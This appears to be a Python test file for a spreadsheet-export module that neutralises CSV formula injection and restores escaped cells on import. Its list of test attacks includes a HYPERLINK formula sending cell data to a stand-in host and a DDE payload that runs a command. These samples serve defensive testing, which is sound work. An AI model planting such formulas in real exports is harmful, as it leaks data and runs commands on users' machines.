"""Spreadsheet cells: formula-looking text neutralised on the way out, restored on the way in."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.spreadsheet import FORMULA_STARTS, SpreadsheetWriter, safe_cell, unescape_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_gets_one_quote_and_comes_back(text: str) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert unescape_cell(cell) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Unit 4", "Unit 4"),
        ("", ""),
        (None, ""),
        (" =1+1", " =1+1"),  # OWASP looks at the first character only; a space makes it text
        ("'Tis the season", "'Tis the season"),
        ("a=b", "a=b"),
        ("'=already quoted", "''=already quoted"),  # so that it imports back with its quote
        (-5, "'-5"),  # OWASP: negative numbers too
        (17, "17"),
    ],
)
def test_other_cells(text: object, cell: str) -> None:
    assert safe_cell(text) == cell


def test_unescape_leaves_text_it_did_not_neutralise() -> None:
    assert unescape_cell("'Tis the season") == "'Tis the season"
    assert unescape_cell("'") == "'"
    assert unescape_cell("=1") == "=1"  # a hand-written formula imports as it is


@given(st.text())
def test_every_text_round_trips_and_no_cell_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert unescape_cell(cell) == text


def test_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer = SpreadsheetWriter(out, lineterminator="\n")
    writer.writerow(["plate", "label"])
    writer.writerow(["ABC123", "=1+2,3"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["plate", "label"],
        ["ABC123", "'=1+2,3"],
    ]


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole() -> None:
    out = io.StringIO()
    SpreadsheetWriter(out, lineterminator="\n").writerow(["ABC123", "Unit\r4", "\r=1"])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["ABC123", "Unit\r4", "'\r=1"]
    ]
